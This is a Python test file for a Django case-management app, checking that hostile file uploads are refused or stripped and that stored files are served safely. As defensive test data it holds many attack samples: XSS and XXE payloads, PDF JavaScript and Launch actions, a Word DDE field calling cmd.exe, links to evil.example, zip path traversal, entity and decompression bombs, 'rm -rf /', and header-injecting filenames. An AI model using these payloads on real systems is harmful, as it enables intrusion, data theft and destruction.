"""Goal G5: files that somebody hands in to harm whoever opens them. None is stored as it came and served; none is run in a browser.

What is refused is refused with a sentence and leaves nothing on the disk. What is made harmless (pictures drawn anew, documents packed
anew) is asked for what it had in it. Seen to fail: each name of `ACTS` and of `OTHER`, `LOCKED`, `MOVES`, `ODD`, `FORESEEN`, `END`, `PAGE`, `plain`,
`unpacked` and its overlap, `MARKED_UP`, the control characters, drawing anew, `PART`, `FETCHES`, `LEADS_TO`, each function that looks through a Word
document, and each limit, one at a time taken out. That found a PDF with any packed stream being unpacked without an end.
"""

import io
import secrets
import stat
import struct
import time
import zipfile
import zlib
from html import unescape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image, PngImagePlugin

from cases.models import Document, StoredFile
from cases.operations import documents, files
from tests.cases.handing_in import EICAR, PDF, TEXT, clamd, document_xml, picture, relationship, with_a_place, word
from tests.regressions.filling import answers_to

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
TYPES = "[Content_Types].xml"


def pdf(catalog=b"", more=b"", *, trailer=b""):
    """A PDF with something in its catalogue, further objects, or in its trailer."""
    changed = PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + catalog).replace(
        b"/Root 1 0 R", b"/Root 1 0 R " + trailer
    )
    head, cut, tail = changed.rpartition(b"xref\n0")
    return head + more + cut + tail


def stream(words, about=b""):
    packed = zlib.compress(words)
    return b"9 0 obj\n<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream\nendobj\n" % (
        len(packed),
        about,
        packed,
    )


def png_of(wide, high):
    """The head of a PNG that says how large it is, and no more than a line of it."""

    def chunk(kind, body):
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))

    head = struct.pack("!IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def jpeg_of(wide, high):
    found = bytearray(picture())
    at = found.index(b"\xff\xc0") + 5
    found[at : at + 4] = struct.pack("!HH", high, wide)
    return bytes(found)


def large_in_little():
    """Seven thousand pixels each way of one colour: a few kilobytes, a hundred and fifty megabytes as colours."""
    out = io.BytesIO()
    Image.new("1", (7_000, 7_000)).save(out, "PNG")
    return out.getvalue()


def a_link(name):
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16 if name == "word/document.xml" else 0o100644 << 16
    return info


def zipped(parts, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts:
            made.writestr(name, content)
        made.comment = comment
    return out.getvalue()


def field(words):
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{words}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def locked_zip():
    found = bytearray(word())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        here = found.find(mark)
        found[here + at] |= 1
    return bytes(found)


JS = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
REFUSED = {
    # viruses and programs
    "eicar.txt": EICAR,
    "eicar in a pdf.pdf": pdf(more=b"% " + EICAR + b"\n"),
    "eicar in a word document.docx": zipped([("eicar.com", EICAR)]),
    "program.exe": b"MZ\x90\x00\x03\x00\x00\x00",
    "program without a sign.txt": b"MZ is how it begins",
    "elf": b"\x7fELF\x02\x01\x01\x00",
    "shell.sh": b"#!/bin/sh\nrm -rf /\n",
    "link.url": b"[InternetShortcut]\nURL=file://server/share\n",
    "keys.reg": b"REGEDIT4\n[HKEY_LOCAL_MACHINE]\n",
    "letter.rtf": b"{\\rtf1{\\object\\objemb}}",
    "page.ps": b"%!PS-Adobe-3.0\n(x) run\n",
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "archive.rar": b"Rar!\x1a\x07\x00" + b"\0" * 60,
    "archive.gz": b"\x1f\x8b\x08\x00" + b"\0" * 60,
    # what a browser would run
    "drawing.svg": SVG,
    "drawing.png": b'<?xml version="1.0"?>' + SVG,
    "page.html": b"<!DOCTYPE html><html><body>" + SCRIPT,
    "page.txt": b"Dear all,\n\n" + SCRIPT,
    "page.pdf": b"<html>" + SCRIPT + b"</html>",
    "capitals.txt": b"< SCRIPT SRC=//evil.example>",
    "picture.txt": b'See <img src=x onerror="alert(1)">',
    "frame.txt": b"<iframe src=javascript:alert(1)>",
    "style.txt": b"<style>@import '//evil.example'</style>",
    "entities.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "mail.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n",
    "wide.txt": "\ufeff<script>alert(1)</script>".encode("utf-16-le"),
    "seven bits.txt": b"+ADw-script+AD4-alert(1)\x00",
    "animation.gif": b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1)",
    "picture.webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\0" * 30,
    "picture.tif": b"II*\x00" + b"\0" * 60,
    # two kinds at once
    "page and pdf.pdf": SCRIPT + PDF,
    "text and pdf.txt": b"%PDF-1.4".rjust(40) + b" is how it begins",
    "pdf and zip.pdf": PDF + word(),
    "pdf and page.pdf": PDF + b"<html>" + SCRIPT,
    "zip and page.docx": word() + SCRIPT,
    "zip with a comment.docx": zipped([("word/document.xml", "x")], comment=SCRIPT),
    "picture and zip that is cut.jpg": picture()[:60] + word(),
    # PDFs that act
    "opens a program.pdf": pdf(JS),
    "escaped.pdf": pdf(JS.replace(b"JavaScript", b"J#61v#61Script")),
    "all escaped.pdf": pdf(JS.replace(b"/JavaScript", b"/#4a#61#76#61#53#63#72#69#70#74")),
    "by name.pdf": pdf(b"/Names << /JavaScript 7 0 R >>"),
    "on closing.pdf": pdf(b"/AA << /WC << /S/JavaScript/JS 7 0 R>> >>"),
    "starts.pdf": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "holds a file.pdf": pdf(b"/Names << /EmbeddedFiles 7 0 R >>"),
    "with a pin.pdf": pdf(more=b"8 0 obj\n<< /Subtype /FileAttachment >>\nendobj\n"),
    "goes to a file.pdf": pdf(b"/OpenAction << /S /GoToE >>"),
    "sends.pdf": pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
    "fetches.pdf": pdf(b"/OpenAction << /S /ImportData >>"),
    "form.pdf": pdf(b"/AcroForm << /XFA 7 0 R >>"),
    "film.pdf": pdf(more=b"8 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"),
    "sound.pdf": pdf(more=b"8 0 obj\n<< /S /Rendition >>\nendobj\n"),
    "model.pdf": pdf(more=b"8 0 obj\n<< /Subtype /3D >>\nendobj\n"),
    "locked.pdf": pdf(trailer=b"/Encrypt 7 0 R"),
    "packed.pdf": pdf(more=stream(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>", b"/Type /ObjStm /N 1 /First 4")),
    "packed and unsaid.pdf": pdf(more=stream(b"7 0 << /S /JavaScript /JS (x) >>", b"/Type /XObject /Subtype /Image")),
    **{
        f"packed after {named}.pdf": pdf(
            more=stream(b"7 0 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm").replace(
                b">>\nstream\n", b">>\nstream" + end, 1
            )
        )
        for named, end in {"a blank": b" \n", "a tab": b"\t\r\n", "an old line end": b"\r"}.items()
    },
    "packed far in.pdf": pdf(more=stream(b" " * 300_000 + b"<< /S /JavaScript >>", b"/Type /ObjStm")),
    "packed over an edge.pdf": pdf(more=stream(b" " * 262_140 + b"/JavaScript ", b"/Type /ObjStm")),
    "packed twice.pdf": pdf(
        more=b"9 0 obj\n<</Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]>>\nstream\n00>\nendstream\nendobj\n"
    ),
    "packed by difference.pdf": pdf(more=stream(b"\x02" * 99, b"/Type /ObjStm /DecodeParms << /Predictor 12 >>")),
    "packed after a false end.pdf": pdf(
        more=b"9 0 obj\n<< /Filter /FlateDecode /Type /ObjStm >>\nstream\n"
        + zlib.compress(b"endstream\nendobj\n/JavaScript ", 0)
        + b"\nendstream\nendobj\n"
    ),
    "bomb.pdf": pdf(more=stream(b"\0" * 170 * 1024 * 1024)),
    "associated.pdf": pdf(more=stream(b"x", b"/Type /EmbeddedFile")),
    "old film.pdf": pdf(more=b"8 0 obj\n<< /Subtype /Movie >>\nendobj\n"),
    "old sound.pdf": pdf(more=b"8 0 obj\n<< /Subtype /Sound >>\nendobj\n"),
    "a million streams.pdf": pdf(more=b"stream\n" * 1_000_000),
    "a million packed objects.pdf": pdf(more=b"/ObjStm " * 1_000_000),
    "broken off.pdf": PDF[: len(PDF) // 2],
    "without an end.pdf": PDF.replace(b"%%EOF", b""),
    "without a page.pdf": b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\nstartxref\n0\n%%EOF\n",
    # Word documents that act
    "macros.docm": word(main=MACROS),
    "macros by another name.docx": word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "a type with macros.docx": word(
        {
            TYPES: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/><Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        }
    ),
    "another file.docx": word({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "a table.docx": word({"word/embeddings/table.xlsx": b"PK"}),
    "a page within.docx": word({"word/afchunk.htm": SCRIPT}),
    "an object.docx": word(body="<w:p><w:r><w:object/></w:r></w:p>"),
    "a control.docx": word(body="<w:p><w:r><w:control/></w:r></w:p>"),
    "another text.docx": word(body='<w:altChunk xmlns:r="r" r:id="rId1"/>'),
    "a template from elsewhere.docx": word(
        {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "https://evil.example/a.dotm")}
    ),
    "a picture from elsewhere.docx": word(
        {"word/_rels/document.xml.rels": relationship("image", "https://evil.example/p.png")}
    ),
    "a share.docx": word({"word/_rels/document.xml.rels": relationship("hyperlink", "file://server/share")}),
    "a script as a link.docx": word({"word/_rels/document.xml.rels": relationship("hyperlink", "javascript:alert(1)")}),
    "not said to be outside.docx": word({"word/_rels/document.xml.rels": relationship("image", "//server/p.png", "")}),
    "a field.docx": word(body=field('<w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>')),
    "a field in pieces.docx": word(
        body=field("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>")
    ),
    "a simple field.docx": word(body='<w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/p.png"/>'),
    "entities.docx": word({"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]>' + "<a>&b;</a>"}),
    "laughs.docx": word(
        {
            "word/document.xml": "<!DOCTYPE a [<!ENTITY a0 'ha'>"
            + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 9))
            + "]><a>&a8;</a>"
        }
    ),
    "other letters.docx": word({"word/document.xml": document_xml().replace("UTF-8", "UTF-16").encode("utf-16")}),
    "seven bits.docx": word({"word/document.xml": document_xml().replace("UTF-8", "UTF-7")}),
    "a bomb.docx": word({"word/big.xml": "<a>" + " " * 60_000_000 + "</a>"}),
    "a bomb in parts.docx": word({f"word/p{number}.xml": f"<a>{' ' * 10_000_000}</a>" for number in range(3)}),
    "a bomb beside words.docx": word(
        {f"word/p{number}.xml": f"<a>{' ' * 40_000_000}</a>" for number in range(3)}
        | {"word/q.xml": f"<a>{secrets.token_hex(1_000_000)}</a>"}
    ),
    "many parts.docx": word({f"word/p{number}.xml": "<a/>" for number in range(600)}),
    "a way out.docx": word({"../../../../etc/cron.d/x.xml": "<a/>"}),
    "a way out by another sign.docx": word({"..\\..\\x.xml": "<a/>"}),
    "from the root.docx": word({"/etc/x.xml": "<a/>"}),
    "a symbolic link.docx": word(info=a_link),
    "locked.docx": locked_zip(),
    "one name twice.docx": word({"word/Document.xml": document_xml()}),
    "not what it says.docx": word(leave_out=("word/document.xml",)),
    "an archive.docx": zipped([("letter.txt", "Dear all")]),
    "a table.xlsx": word(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "broken off.docx": word()[:-60],
    "a bomb as a picture.docx": word({"word/media/image1.png": png_of(30_000, 30_000)}),
    "no picture.docx": word({"word/media/image1.png": SVG}),
    # pictures
    "flood.png": png_of(60_000, 60_000),
    "flood.jpg": jpeg_of(60_000, 60_000),
    "large in little.png": large_in_little(),
    "a thread.png": picture("PNG", size=(5_000, 1)),
    "broken off.png": picture("PNG")[:50],
    "broken off.jpg": picture(size=(400, 300))[:400],
    "not a picture.jpg": b"\xff\xd8\xff" + SCRIPT,
    "not a picture.png": b"\x89PNG\r\n\x1a\n" + SVG,
    # nothing, too much, and other alphabets
    "empty.pdf": b"",
    "blanks.txt": b" \r\n\t\n",
    "too large.txt": b"a" * (10 * 1024 * 1024 + 1),
    "too large.pdf": PDF[:-6] + b" " * (10 * 1024 * 1024) + b"%%EOF\n",
    "controls.txt": b"\x1b]0;title\x07 and \x08 more",
    "half letters.txt": b"Andr\xe9",
    "noughts.txt": b"a\0b",
}
KNOWN_BY_A_SCANNER = {"eicar.txt", "eicar in a pdf.pdf"}
NAMES = {  # the name is never asked, kept or said back: only what stands in the file counts
    "../../../../etc/passwd": TEXT,
    "..\\..\\windows\\system32\\a.txt": TEXT,
    "letter.pdf.exe": PDF,
    "letter.html": TEXT,
    "drawing.svg": TEXT,
    "invoice\u202efdp.exe": PDF,
    "a\r\nSet-Cookie: session=1\r\n.txt": TEXT,
    "a\0.pdf": PDF,
    '"; filename="evil.html': TEXT,
    "<script>alert(1)</script>.txt": TEXT,
    "a" * 400 + ".pdf": PDF,
    ".htaccess": TEXT,
    "CON.txt": TEXT,
}
BY_WORD = ("text/html", "image/svg+xml", "application/javascript", "application/x-msdownload", "multipart/form-data")


def with_words_behind(data):
    return data + b"PK\x03\x04" + SCRIPT


def png_with_words():
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    told.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>54.77N</x:xmpmeta>")
    return picture("PNG", pnginfo=told)


CLEANED = {  # stored, without what they had in them
    "with a place.jpg": (with_a_place(), b"A telephone"),
    "with words.png": (png_with_words(), b"alert"),
    "with a place by xmp.png": (png_with_words(), b"54.77N"),
    "words in a comment.jpg": (picture(comment=SCRIPT), b"alert"),
    "words behind.jpg": (with_words_behind(picture()), b"alert"),
    "words behind.png": (with_words_behind(picture("PNG")), b"alert"),
    "place within.docx": (word({"word/media/image1.jpeg": with_a_place()}), b"A telephone"),
}


@pytest.fixture
def handing(case, worker, signed_in):
    """Sends a file on the page, by whatever name and type; with what it was answered."""
    client, there = signed_in(worker), reverse("cases:add_document", args=[case.reference])

    def send(name, data, content_type="application/pdf"):
        answers = answers_to(client.get(there).context["form"], title="A letter")
        file = SimpleUploadedFile("x", data, content_type)
        file._name = name  # as it would come over the line: Django takes folders off
        return client.post(there, answers | {"file": file})

    send.client = client
    return send


def stored(settings):
    return [path for path in settings.FILES.rglob("*") if path.is_file()]


def within(data):
    """The bytes of a file, and of what is packed in it."""
    if not data.startswith(b"PK"):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as found:
        return b"".join(found.read(name) for name in found.namelist())


@pytest.mark.goal("G5")
def test_no_hostile_file_is_stored_and_served_and_none_runs(handing, settings, capsys):
    """The figure of docs/security.md: how many were tried, stored as they came, run, kept a place; and the slowest answer."""
    served = run = slowest = 0
    refusals = {}
    with clamd(settings) as scanner:
        for name, data in REFUSED.items():
            began = time.monotonic()
            answer = handing(name, data)
            slowest = max(slowest, time.monotonic() - began)
            assert answer.status_code == 422, name
            refusals[name] = answer.context["form"].errors["file"][0]
        assert not stored(settings) and not Document.objects.exists() and not StoredFile.objects.exists()
        assert all(len(sentence) > 20 and sentence.strip(".").count(" ") > 2 for sentence in refusals.values())
        assert all("A virus was found" in refusals[name] for name in KNOWN_BY_A_SCANNER)
        for name, data in NAMES.items():
            answer = handing(name, data, BY_WORD[len(name) % len(BY_WORD)])
            assert answer.status_code == 302, (name, answer.context and answer.context["form"].errors)
        for name, (data, _) in CLEANED.items():
            assert handing(name, data).status_code == 302, name
        for one in StoredFile.objects.select_related("document__case"):
            answer = handing.client.get(
                reverse("cases:document_file", args=[one.document.case.reference, one.document_id])
            )
            safe = (
                answer.status_code == 200
                and answer["Content-Disposition"].startswith("attachment; ")
                and answer["X-Content-Type-Options"] == "nosniff"
                and answer["Content-Security-Policy"].startswith("sandbox;")
                and answer["Content-Type"] in documents.TYPES.values()
            )
            run += not safe
            served += any(bad in within(answer.content) for _, bad in CLEANED.values())
    tried = len(REFUSED) + len(NAMES) + len(CLEANED)
    assert tried >= 60 and (served, run) == (0, 0)
    with capsys.disabled():
        print(
            f"\nG5: {tried} hostile uploads, {len(REFUSED)} refused in words, {served} served as they came, {run} run; slowest {slowest:.1f} s; scanned by {scanner}"
        )


@pytest.mark.parametrize("name", sorted(REFUSED.keys() - KNOWN_BY_A_SCANNER))
def test_it_is_refused_for_what_it_is_where_nothing_is_scanned(name, handing, settings):
    """What only a scanner knows is not: the page says that files are not checked."""
    answer = handing(name, REFUSED[name])
    assert answer.status_code == 422 and "file" in answer.context["form"].errors
    assert not stored(settings)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_of_a_file_is_neither_kept_nor_said_back(name, handing, settings):
    assert handing(name, NAMES[name]).status_code == 302
    (one,) = StoredFile.objects.select_related("document__case")
    answer = handing.client.get(reverse("cases:document_file", args=[one.document.case.reference, one.document_id]))
    ending = {"pdf": ".pdf", "txt": ".txt"}[one.kind]
    assert answer["Content-Disposition"].endswith(f'{ending}"') and "Set-Cookie: session=1" not in str(answer.headers)
    assert [path.name for path in stored(settings)] == [one.place.hex]


@pytest.mark.parametrize("name", CLEANED)
def test_what_a_file_had_in_it_is_gone(name, handing):
    data, bad = CLEANED[name]
    assert bad in within(data)
    assert handing(name, data).status_code == 302
    assert bad not in within(files.read(StoredFile.objects.get()))


@pytest.mark.parametrize(
    "data",
    [
        b"Dear all,\n\na < b and 5 > 3; write to <ada@school.example>.\n",
        "Zoë’s drawings: “a warm house”. \U0001f3e0".encode(),
        "\ufeffWith the sign that some programs put in front.".encode(),
        PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction [3 0 R /Fit]"),
        PDF + b"\n\n",
        pdf(more=stream(b"BT (Hello) Tj ET " * 1_000) * 50),
        pdf(more=stream(b"7 0 << /Type /Font >>", b"/Type /ObjStm /N 1 /First 4")),
        pdf(more=stream(bytes(range(256)) * 40_000, b"/Type /XObject /Subtype /Image")),
        word({"word/_rels/document.xml.rels": relationship()}),
        word({"word/_rels/document.xml.rels": relationship("hyperlink", "mailto:office@school.example")}),
        word(body=field('<w:r><w:instrText> HYPERLINK "https://school.example/link"</w:instrText></w:r>')),
        word({"docProps/core.xml": "<a/>", "customXml/item1.xml": "<a/>", "word/media/image1.png": picture("PNG")}),
        picture("PNG", size=(4_000, 3_000)),
        picture(size=(6_000, 4_000)),
    ],
)
def test_what_people_have_every_day_is_taken(data, handing):
    answer = handing("x", data)
    assert answer.status_code == 302, unescape(str(answer.context["form"].errors))
